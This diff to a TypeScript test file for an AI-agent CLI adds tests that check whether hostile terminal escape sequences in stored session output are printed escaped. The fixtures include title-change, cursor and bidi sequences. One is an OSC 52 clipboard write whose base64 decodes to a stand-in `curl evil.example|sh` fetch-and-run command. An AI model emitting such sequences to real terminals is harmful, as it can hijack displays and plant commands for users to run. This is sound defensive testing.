@@ -8,7 +8,7 @@ import path from 'node:path';
 import { describe, test } from 'node:test';
 import { dayOf } from '../../budget/day.js';
 import { Ledger } from '../../budget/ledger.js';
-import { BIN, FIXTURES, fakeApiPerFile, nightshift, waitFor, workspace, writeAgent, type Workspace } from '../helpers.js';
+import { BIN, FIXTURES, fakeApiPerFile, ledgerRows, nightshift, waitFor, workspace, writeAgent, type Workspace } from '../helpers.js';
 
 const api = fakeApiPerFile();
 
@@ -186,5 +186,104 @@ describe('the terminal', () => {
       child.kill('SIGINT');
     });
     assert.equal(code, 0, 'Ctrl-C ends the follow cleanly');
+  });
+});
+
+// Issue 25.6: what a session wrote is data at the terminal. Raw bytes a terminal acts on, or that
+// disguise text (C0 but \n and \t, DEL, C1, bidi, invisible format characters):
+const RAW = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2064\u2066-\u2069\ufeff]/;
+const TITLE = '\x1b]0;pwned\x07';
+const CLIP = '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07'; // base64 of `curl evil.example|sh`
+const CURSOR = '\x1b[1A\x1b[2K';
+const HOSTILE = `all done${TITLE}${CLIP}${CURSOR}\x9b2J\rnothing to see \u202eexe.txt`;
+
+describe('a session\'s text at the terminal (issue 25.6)', () => {
+  // A settled session whose result, error and transcript hold the sequences, written straight in.
+  function seedHostile(ws: Workspace): string {
+    const transcript = path.join(ws.dir, 'hostile.jsonl');
+    fs.writeFileSync(transcript, [
+      JSON.stringify({ type: 'system', subtype: 'init', model: 'sonnet', tools: [], mcp_servers: [] }),
+      JSON.stringify({ type: 'assistant', message: { content: [{ type: 'text', text: `Reading.\n${TITLE}` }, { type: 'tool_use', name: `Bash${CURSOR}`, input: { command: `printf '${CLIP}'` } }] } }),
+      JSON.stringify({ type: 'user', message: { content: [{ type: 'tool_result', content: `${CLIP}\x9b2J` }] } }),
+      `stream garbage ${TITLE}\u202e`,
+      JSON.stringify({ type: 'result', subtype: 'success', total_cost_usd: 0.01, num_turns: 2, result: HOSTILE }),
+    ].join('\n') + '\n');
+    const l = Ledger.open(path.join(ws.state, 'ledger.db'));
+    try {
+      const open = { id: 'hx1', agent: 'a', day: '2026-11-30', started_at: '2026-11-30T09:00:00.000Z', transcript, model: 'sonnet', supervisor_pid: null, supervisor_start: null };
+      l.open(open);
+      l.settle(open, {
+        outcome: 'error', ended_at: '2026-11-30T09:01:05.000Z', duration_ms: 65_000, cost_usd: 0.01, cost_estimated: false,
+        turns: 2, exit_code: 1, result: HOSTILE, error: `git: conflict on branch night${TITLE}\u2066x\u2069`, input_tokens: 0, output_tokens: 0,
+      });
+    } finally {
+      l.close();
+    }
+    return transcript;
+  }
+  // What a terminal shows, its own \r\n line ends read as \n.
+  const screen = (out: string) => out.replace(/\r\n/g, '\n');
+
+  test('show, show --transcript, sessions and logs at a terminal print the sequences escaped, never raw', async (t) => {
+    const ws = workspace(t, api.url);
+    writeAgent(ws, 'a', 'SCENARIO=text');
+    const transcript = seedHostile(ws);
+    // Negative control: the stored data really holds the raw bytes a plain print would pass on.
+    const row = ledgerRows(ws.dir)[0];
+    assert.ok(row.result.includes('\x1b]52;c;') && row.result.includes('\x9b') && row.result.includes('\u202e') && row.error.includes('\x1b]0;'), 'the ledger holds them raw');
+    assert.match(fs.readFileSync(transcript, 'utf8'), /stream garbage \x1b\]0;pwned\x07\u202e/, 'the transcript holds them raw');
+    // Today's log with a line as pino writes it: JSON, the ESC as \u001b, which JSON.parse undoes.
+    fs.mkdirSync(ws.logs, { recursive: true });
+    const logLine = JSON.stringify({ level: 50, time: '2026-12-01T10:00:00.000Z', agent: 'keeper', msg: `session failed: ${HOSTILE}` });
+    assert.ok(JSON.parse(logLine).msg.includes('\x1b]52;'), 'a human rendering without the escaper would print it raw');
+    fs.writeFileSync(path.join(ws.logs, `${dayOf(new Date(), 'UTC')}.log`), `${logLine}\n`);
+
+    const runs: Array<[string[], string[]]> = [
+      [['show', 'hx1'], ['result    all done\\u001b]0;pwned\\u0007\\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\\u0007\\u001b[1A\\u001b[2K\\u009b2J\\u000dnothing to see \\u202eexe.txt', 'error     git: conflict on branch night\\u001b]0;pwned\\u0007\\u2066x\\u2069']],
+      [['show', 'hx1', '--transcript'], ['assistant: Reading.\n\\u001b]0;pwned\\u0007', '→ Bash\\u001b[1A\\u001b[2K', '← \\u001b]52;c;', '? stream garbage \\u001b]0;pwned\\u0007\\u202e', 'all done\\u001b]0;pwned']],
+      [['logs', 'hx1'], ['→ Bash\\u001b[1A\\u001b[2K', '? stream garbage \\u001b]0;pwned\\u0007\\u202e']],
+      [['logs', 'hx1', '-f'], ['→ Bash\\u001b[1A\\u001b[2K', 'all done\\u001b]0;pwned']],
+      [['logs'], ['error keeper: session failed: all done\\u001b]0;pwned\\u0007\\u001b]52;c;']],
+      [['sessions'], ['hx1']],
+    ];
+    for (const [args, wants] of runs) {
+      const r = await inPty(args, ws);
+      const shown = screen(r.out);
+      assert.equal(r.code, 0, `${args.join(' ')}: ${shown}`);
+      assert.doesNotMatch(shown, RAW, `${args.join(' ')} printed a raw control:\n${JSON.stringify(shown)}`);
+      for (const want of wants) assert.ok(shown.includes(want), `${args.join(' ')} shows ${JSON.stringify(want)}:\n${shown}`);
+    }
+  });
+
+  test('--json stays JSON, with C1 and bidi as \\u escapes, and parses back to what was stored', async (t) => {
+    const ws = workspace(t, api.url);
+    writeAgent(ws, 'a', 'SCENARIO=text');
+    const transcript = seedHostile(ws);
+    const show = await nightshift(['show', 'hx1', '--json'], ws.env, ws.dir);
+    const sessions = await nightshift(['sessions', '--json'], ws.env, ws.dir);
+    const raw = await nightshift(['show', 'hx1', '--transcript', '--json'], ws.env, ws.dir);
+    for (const r of [show, sessions, raw]) {
+      assert.equal(r.code, 0, r.stderr);
+      assert.doesNotMatch(r.stdout, RAW, JSON.stringify(r.stdout));
+    }
+    assert.equal(JSON.parse(show.stdout).result, HOSTILE);
+    assert.equal(JSON.parse(sessions.stdout)[0].error, `git: conflict on branch night${TITLE}\u2066x\u2069`);
+    // Each JSON line of the transcript means what the file says; the garbage line is shown escaped.
+    const stored = fs.readFileSync(transcript, 'utf8').trimEnd().split('\n');
+    const printed = raw.stdout.trimEnd().split('\n');
+    assert.equal(printed.length, stored.length);
+    stored.forEach((line, i) => {
+      if (line.startsWith('{')) assert.deepEqual(JSON.parse(printed[i]), JSON.parse(line));
+      else assert.equal(printed[i], 'stream garbage \\u001b]0;pwned\\u0007\\u202e');
+    });
+    // logs into a pipe: the JSON lines, the same data. JSON.stringify (as a writer other than our
+    // logger might) leaves C1 and bidi raw in the file.
+    fs.mkdirSync(ws.logs, { recursive: true });
+    const logLine = JSON.stringify({ level: 30, time: '2026-12-01T10:00:00.000Z', msg: `x ${HOSTILE}` });
+    assert.match(logLine, /\u009b2J/, 'raw in the file');
+    fs.writeFileSync(path.join(ws.logs, `${dayOf(new Date(), 'UTC')}.log`), `${logLine}\n`);
+    const logs = await nightshift(['logs'], ws.env, ws.dir);
+    assert.doesNotMatch(logs.stdout, RAW, JSON.stringify(logs.stdout));
+    assert.equal(JSON.parse(logs.stdout).msg, `x ${HOSTILE}`);
   });
 });
